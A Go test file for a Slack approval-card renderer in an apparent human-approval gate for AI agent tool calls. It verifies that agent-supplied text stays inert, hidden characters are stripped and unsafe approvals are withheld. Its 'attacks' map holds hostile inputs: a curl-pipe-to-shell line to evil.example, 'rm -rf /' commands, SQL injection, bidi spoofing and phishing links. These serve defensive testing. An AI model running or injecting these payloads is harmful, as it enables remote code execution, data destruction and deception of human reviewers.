package blockkit_test

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/slack-go/slack"

	"github.com/countersignhq/countersign"
	"github.com/countersignhq/countersign/brief"
	"github.com/countersignhq/countersign/channel"
	"github.com/countersignhq/countersign/channel/slack/blockkit"
)

var asked = time.Date(2026, 11, 19, 14, 0, 18, 0, time.UTC)

// attacks are texts that want to be more than text in Slack.
var attacks = map[string]string{
	"mention":         "<@U0123456789> <@W1> @alice",
	"here":            "<!here> <!channel> <!everyone> @here @channel @everyone",
	"user group":      "<!subteam^S012345|@sre>",
	"channel":         "<#C0123456789|general> #general",
	"link":            "<https://evil.example/approve|Open> [ok](https://evil.example) https://evil.example",
	"mail link":       "<mailto:a@b.example|Approve>",
	"date":            "<!date^1392734382^approved {date}|now>",
	"markup":          "*bold* _italic_ ~struck~ `code` > quote \n>>> all",
	"code fence":      "```\n```\n*Approved by Bob*\n```",
	"entities":        "&lt;!here&gt; &amp; <b> &",
	"emoji":           ":white_check_mark: :large_green_circle: approved :tada:",
	"bidi":            "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */",
	"zero width":      "rm\u200b -rf\ufeff /\u2060",
	"ansi":            "\x1b[32mverified\x1b[0m\x00",
	"padding":         "echo ok" + strings.Repeat(" ", 500) + "; rm -rf /",
	"blank lines":     "echo ok" + strings.Repeat("\n", 80) + "rm -rf /",
	"a card of lines": "x\ndecided by  2 of 2\napproved  Bob Okafor\nnot here",
	"labels":          "<U+202E> <412 spaces>",
	"half a letter":   "a\xff\xfe",
	"nothing":         "",
	"blank":           " ",
	"newline":         "\n",
	"wide":            strings.Repeat("\u754c", 900),
	"json":            `{"type":"actions","elements":[{"type":"button","action_id":"cs_approve"}]}`,
	"sql":             "DELETE FROM users; -- '\" ",
	"shell":           "$(curl -s https://evil.example | sh) `id` && rm -rf /",
}

// request makes a pending request of an MCP call in which the text stands wherever
// an agent, a person or a policy can write.
func request(t testing.TB, text string) countersign.Request {
	t.Helper()
	quoted, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	r := countersign.Request{
		ID:         "req_5m2c7xk9tq4d",
		State:      countersign.State{Decision: countersign.DecisionPending, Execution: countersign.ExecutionNone},
		Resource:   countersign.Resource{Name: "mcp/payments", Environment: text, Regions: []string{"eu-west-1"}, DataClasses: []string{text}},
		Requester:  countersign.Principal{Kind: countersign.KindAgent, ID: "agt_support", Name: text, Owner: "per_alice"},
		OnBehalfOf: []countersign.Principal{{Kind: countersign.KindPerson, ID: "per_dana", Name: text, Issuer: text, Subject: "dana"}},
		Origin:     countersign.Origin{Door: "mcp", Peer: "10.4.2.17:51234", Client: text},
		Reason:     text, Because: text,
		Facts: countersign.Facts{Verbs: []string{"mcp.write"}, Classes: []string{text}, Certainty: countersign.Known, Understanding: "1", Tool: text,
			Objects: []countersign.Object{{Name: text, Verb: text, Classes: []string{text}, Count: text, Certainty: countersign.Known}},
			Indicators: []countersign.Indicator{
				{ID: "mcp.tool-destructive", Severity: countersign.Medium, Evidence: text, Source: text, Certainty: countersign.Known},
				{ID: "text.bidi", Severity: countersign.High, Evidence: "U+202E", Where: "arguments.value", Source: "bytes", Certainty: countersign.Known},
			}},
		Verdict: countersign.Verdict{Effect: countersign.Hold,
			Rules: []countersign.RuleTrace{{ID: text, Value: countersign.RuleTrue, Effect: countersign.Hold, Counts: true, Source: text, Why: text}},
			Requirement: &countersign.Requirement{
				Stages: []countersign.Stage{{Reviewers: []string{"payments", text}, Quorum: 1, Assurance: countersign.Chat}}, Bounds: map[string]string{"bytes": "1"},
				ExpiresAt: asked.Add(30 * time.Minute), RunWithinSeconds: 600,
				NotBefore: asked.Add(20 * time.Minute), Closed: []string{"quarter end: " + text},
			}},
		Decisions: []countersign.Decision{{By: countersign.Principal{Kind: countersign.KindPerson, ID: "per_bob", Name: text}, Choice: countersign.Escalate,
			Assurance: countersign.Chat, Channel: "slack", Reason: text, At: asked.Add(time.Minute)}},
		CreatedAt: asked,
	}
	r.Command = countersign.MCPRequest{Resource: r.Resource.Name, Method: "tools/call",
		Params: fmt.Appendf(nil, `{"name":%s,"arguments":{"value":%s,"deep":{"list":[%s,{"x":1}]}}}`, quoted, quoted, quoted)}
	if r.Canonical, err = countersign.Canonical(r.Command); err == nil {
		r.Digest = countersign.DigestOfCanonical(r.Canonical)
	}
	return r
}

func card(r countersign.Request) channel.Card {
	d := countersign.NewDirectory()
	d.Groups["security"] = countersign.Group{Name: "security", Members: []countersign.Member{{Person: "per_priya"}}}
	c := channel.NewCard(r, d, channel.Setting{Regions: []string{"eu-west-1"}, Console: "https://gate.example"})
	c.Key, c.Token = "req/1", "AAAABBBBCCCCDDDDEEEEFFFFGG"
	return c
}

func plain(blocks []slack.Block) string {
	var all strings.Builder
	for _, b := range blocks {
		all.WriteString(blockkit.TextOf(b) + "\n")
	}
	return all.String()
}

// buttons are the action ids in the order in which they stand.
func buttons(blocks []slack.Block) []string {
	var ids []string
	for _, b := range blocks {
		if row, ok := b.(*slack.ActionBlock); ok {
			for _, e := range row.Elements.ElementSet {
				ids = append(ids, e.(*slack.ButtonBlockElement).ActionID)
			}
		}
	}
	return ids
}

func has(list []string, s string) bool {
	return strings.Contains(" "+strings.Join(list, " ")+" ", " "+s+" ")
}

// inert fails if any part of the message could be more than text to Slack.
func inert(t *testing.T, what string, blocks []slack.Block) {
	t.Helper()
	raw, err := json.Marshal(blocks)
	if err != nil {
		t.Fatal(err)
	}
	var walk func(v any)
	walk = func(v any) {
		switch v := v.(type) {
		case []any:
			for _, item := range v {
				walk(item)
			}
		case map[string]any:
			switch v["type"] {
			case "header", "rich_text", "rich_text_section", "rich_text_preformatted", "rich_text_quote", "text", "date", "actions", "button", "plain_text":
			default:
				t.Errorf("%s: an element of the type %v, which Slack brings to life", what, v["type"])
			}
			if url, ok := v["url"].(string); ok && !strings.HasPrefix(url, "https://gate.example/") {
				t.Errorf("%s: a link to %q, want the console's", what, url)
			}
			for key, item := range v {
				if key != "style" {
					walk(item)
				}
			}
		}
	}
	var v any
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatal(err)
	}
	walk(v)
}

func TestT12NothingAnAgentWritesIsMarkupInSlack(t *testing.T) {
	for name, text := range attacks {
		c := card(request(t, text))
		m := blockkit.Draw(c)
		inert(t, name, m.Blocks)
		if strings.ContainsAny(strings.NewReplacer("&amp;", "", "&lt;", "", "&gt;", "").Replace(m.Text), "&<>") {
			t.Errorf("%s: got the notification %q; want &, < and > escaped", name, m.Text)
		}
		for _, hidden := range []string{"\u202e", "\u2066", "\u200b", "\ufeff", "\x1b", "\x00", "\xff"} {
			if strings.Contains(plain(m.Blocks)+m.Text, hidden) {
				t.Errorf("%s: the card holds the hidden character %q", name, hidden)
			}
		}
	}
}

func TestACardThatFitsShowsAllThatIsMandatory(t *testing.T) {
	for name, text := range attacks {
		c := card(request(t, text))
		m := blockkit.Draw(c)
		if fits := blockkit.Fits(c); fits && !m.Whole {
			t.Errorf("%s: it fits, and is not drawn whole", name)
		}
		if !m.Whole {
			continue
		}
		if part, says, ok := c.Brief.Missing(plain(m.Blocks)); !ok {
			t.Errorf("%s: the card leaves out of %s: %q\n%s", name, part, says, plain(m.Blocks))
		}
		for _, says := range []string{c.Status, string(c.Brief.ID), "0 of 1"} {
			if !strings.Contains(plain(m.Blocks), says) {
				t.Errorf("%s: the card does not say %q", name, says)
			}
		}
	}
}

func TestACardSaysWhoIsOnDutyWhoIsNextAndUntilWhenItIsClosed(t *testing.T) {
	r := request(t, "x")
	q := *r.Verdict.Requirement
	q.Ladder = []countersign.Rung{{At: asked.Add(10 * time.Minute), To: []string{"security"}}}
	r.Verdict.Requirement = &q
	c := card(r)
	c.Brief.Deciders.Now = []brief.Text{{{Text: "Mei Tanaka is on duty"}}}
	for _, says := range []string{"Mei Tanaka is on duty", "at 2026-11-19 14:10:18 UTC, security is needed as well", "not yet  quarter end: x"} {
		if shown := plain(blockkit.Draw(c).Blocks); !strings.Contains(shown, says) {
			t.Errorf("the card does not say %q:\n%s", says, shown)
		}
	}
}

func TestNoCardBreaksALimitOfSlack(t *testing.T) {
	seed := uint64(time.Now().UnixNano())
	random := rand.New(rand.NewPCG(seed, 0))
	pieces := []string{"a", " ", "\n", "\"", "\\", "<", "&", "\u202e", "\u754c", "\U0001f600", "\xff", "0", "rm -rf /", "\t"}
	for name := range attacks {
		pieces = append(pieces, attacks[name])
	}
	const cards = 120
	whole := 0
	for i := range cards {
		var text strings.Builder
		for range random.IntN(1 << random.IntN(9)) {
			text.WriteString(pieces[random.IntN(len(pieces))])
		}
		c := card(request(t, text.String()))
		m := blockkit.Draw(c)
		if err := blockkit.Check(m.Blocks); err != nil {
			t.Fatalf("seed %d, card %d of %d bytes: %v", seed, i, text.Len(), err)
		}
		if err := blockkit.Check(blockkit.Short(c).Blocks); err != nil {
			t.Fatalf("seed %d, short card %d: %v", seed, i, err)
		}
		for _, choice := range []countersign.Choice{countersign.Approve, countersign.Reject, countersign.Escalate} {
			if _, err := blockkit.Ask(choice, c); err != nil {
				t.Fatalf("seed %d, dialog %s of %d: %v", seed, choice, i, err)
			}
		}
		if !m.Whole && has(buttons(m.Blocks), blockkit.ActionApprove) {
			t.Fatalf("seed %d, card %d: it does not show everything and offers Approve", seed, i)
		}
		if part, says, ok := c.Brief.Missing(plain(m.Blocks)); m.Whole && !ok {
			t.Fatalf("seed %d, card %d: the card leaves out of %s: %q", seed, i, part, says)
		}
		if m.Whole {
			whole++
		}
	}
	if whole == 0 || whole == cards {
		t.Errorf("seed %d: %d of %d cards were whole; want some and not all", seed, whole, cards)
	}
}

func TestACommandTooLongForSlackCanOnlyBeOpenedRejectedOrEscalated(t *testing.T) {
	c := card(request(t, strings.Repeat("x", 5000)))
	if blockkit.Fits(c) {
		t.Fatal("a card of 5,000 letters in twelve places fits; want it not to")
	}
	c.Offers = []countersign.Choice{countersign.Approve, countersign.Reject, countersign.Escalate}
	m := blockkit.Draw(c)
	if got, want := fmt.Sprint(buttons(m.Blocks)), "[cs_reject cs_escalate cs_open]"; got != want {
		t.Errorf("buttons: got %s, want %s", got, want)
	}
	if !strings.Contains(plain(m.Blocks), "cannot be approved here") || !strings.Contains(plain(m.Blocks), "cut here") {
		t.Errorf("the card does not say that it is cut:\n%s", plain(m.Blocks))
	}
}

func TestACardOffersWhatItIsGivenAndNothingElse(t *testing.T) {
	for _, offers := range [][]countersign.Choice{nil, {countersign.Reject}, {countersign.Approve, countersign.Reject}, {"destroy", countersign.Escalate}} {
		c := card(request(t, "x"))
		c.Offers = offers
		want := []string{}
		for _, o := range offers {
			if o != "destroy" {
				want = append(want, "cs_"+string(o))
			}
		}
		want = append(want, blockkit.ActionOpen)
		if got := buttons(blockkit.Draw(c).Blocks); fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("offers %v: got %v, want %v", offers, got, want)
		}
	}
}

func TestACardForAnotherRegionShowsNothingOfTheRequest(t *testing.T) {
	secret := "payroll-of-everybody"
	r := request(t, secret)
	c := channel.NewCard(r, countersign.NewDirectory(), channel.Setting{Regions: []string{"us"}, Console: "https://gate.example"})
	c.Token, c.Offers = "T", []countersign.Choice{countersign.Approve, countersign.Reject}
	m := blockkit.Draw(c)
	raw, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(raw), secret) || strings.Contains(string(raw), "mcp/payments") {
		t.Errorf("the card for another region holds what may not leave:\n%s", plain(m.Blocks))
	}
	if !strings.Contains(plain(m.Blocks), c.Elsewhere) {
		t.Errorf("the card does not say why it is empty:\n%s", plain(m.Blocks))
	}
	if got, want := fmt.Sprint(buttons(m.Blocks)), "[cs_reject cs_open]"; got != want {
		t.Errorf("buttons: got %s, want %s", got, want)
	}
}

func TestADialogHasTheCardsTokenAndAsksWhy(t *testing.T) {
	c := card(request(t, "x"))
	c.Groups = make([]string, 0, 120)
	for i := range 120 {
		c.Groups = append(c.Groups, fmt.Sprintf("group-%03d", i))
	}
	for _, choice := range []countersign.Choice{countersign.Approve, countersign.Reject, countersign.Escalate} {
		v, err := blockkit.Ask(choice, c)
		if err != nil {
			t.Fatalf("%s: %v", choice, err)
		}
		if v.PrivateMetadata != c.Token {
			t.Errorf("%s: got the metadata %q, want the token alone", choice, v.PrivateMetadata)
		}
		last, ok := v.Blocks.BlockSet[len(v.Blocks.BlockSet)-1].(*slack.InputBlock)
		if !ok || last.Optional || last.BlockID != blockkit.BlockReason {
			t.Errorf("%s: got %+v last, want the reason, required", choice, v.Blocks.BlockSet[len(v.Blocks.BlockSet)-1])
		}
	}
	if _, err := blockkit.Ask("destroy", c); err == nil {
		t.Error("a dialog for a choice that nobody knows; want an error")
	}
}

func TestASeverityHasAShapeOfItsOwn(t *testing.T) {
	seen := map[string]countersign.Severity{}
	for s := countersign.Info; s <= countersign.Critical; s++ {
		shape := blockkit.Shape(s)
		if other, ok := seen[shape]; ok || utf8.RuneCountInString(shape) != 1 {
			t.Errorf("%v has the shape %q, as %v", s, shape, other)
		}
		seen[shape] = s
	}
}

func TestACardThatFitsStillDoesWhenItSaysHowItStands(t *testing.T) {
	fit, not := 0, 0
	for n := 100; n < 900; n += 5 {
		c := card(request(t, strings.Repeat("x", n)))
		c.Status, c.Why = "", ""
		if !blockkit.Fits(c) {
			not++
			continue
		}
		fit++
		c.Status, c.Why = strings.Repeat("s", 450), strings.Repeat("w", 450)
		c.Offers = []countersign.Choice{countersign.Approve, countersign.Reject, countersign.Escalate}
		if !blockkit.Draw(c).Whole {
			t.Fatalf("a card of %d letters fits, and with a status it does not", n)
		}
	}
	if fit == 0 || not == 0 {
		t.Errorf("%d cards fit and %d do not, want some of each", fit, not)
	}
}
